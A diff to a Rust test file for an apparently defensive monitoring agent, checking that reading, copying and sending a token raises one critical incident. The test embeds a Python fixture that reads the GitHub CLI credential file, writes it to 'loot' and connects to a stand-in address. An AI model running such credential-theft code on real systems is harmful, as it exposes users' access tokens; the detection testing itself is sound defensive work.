@@ -178,14 +178,14 @@ fn it_goes_on_after_a_kill_and_another_is_apart() {
     agent.stop();
 }
 
-/// In a network of its own, until its standard input ends: reads the store, copies it, and connects to an address of the
-/// documentation's, which lies on its loopback device.
+/// In a network of its own: reads the store, and until its standard input ends copies it, and connects to an address of the
+/// documentation's, which lies on its loopback device. The hooks on closes and connections come with the read.
 const EXFILTRATION: &str = r#"
 import select, socket, sys
 token = open(".config/gh/hosts.yml").read()
-open("loot", "w").write(token)
 listener = socket.create_server(("203.0.113.7", 8443))
 while not select.select([sys.stdin], [], [], 0.05)[0]:
+    open("loot", "w").write(token)
     socket.create_connection(("203.0.113.7", 8443)).close()
     listener.accept()[0].close()
 "#;
@@ -204,21 +204,20 @@ fn what_was_read_copied_and_sent_is_one_critical_incident() {
         thief.display()
     );
     let mut robot = scene.robot("claude", &script);
-    let incident = agent.process.until("what was sent in its incident", || {
-        scene.incident("Claude Code").filter(|one| count(one, "detectors", "token-egress") > 0)
+    let incident = agent.process.until("what was copied and sent in its incident", || {
+        let has = |one: &Value, detector: &str| count(one, "detectors", detector) > 0;
+        scene.incident("Claude Code").filter(|one| has(one, "token-copied") && has(one, "token-egress"))
     });
     drop(robot.stdin.take());
     assert!(robot.wait().unwrap().success());
-    let counts = ["unexpected-reader", "token-copied"].map(|detector| count(&incident, "detectors", detector));
-    assert_eq!(counts, [1, 1], "{incident:#}");
+    assert_eq!(count(&incident, "detectors", "unexpected-reader"), 1, "{incident:#}");
     let uid = incident["uid"].as_str().unwrap();
-    let last = agent
-        .process
-        .until("that it is critical", || scene.notices(uid).pop().filter(|one| one["severity"] == "Critical"));
-    let said = last["message"].as_str().unwrap();
-    for part in ["copied 1 token", "connected to 203.0.113.7:8443"] {
-        assert!(said.contains(part), "{part} is not in {said}");
-    }
+    let last = agent.process.until("what it says", || {
+        let all = ["copied 1 token", "connected to 203.0.113.7:8443"];
+        let says = |one: &Value| all.iter().all(|part| one["message"].as_str().is_some_and(|said| said.contains(part)));
+        scene.notices(uid).pop().filter(says)
+    });
+    assert_eq!(last["severity"], "Critical", "{last:#}");
     ocsf::check(&scene.told());
     agent.stop();
 }
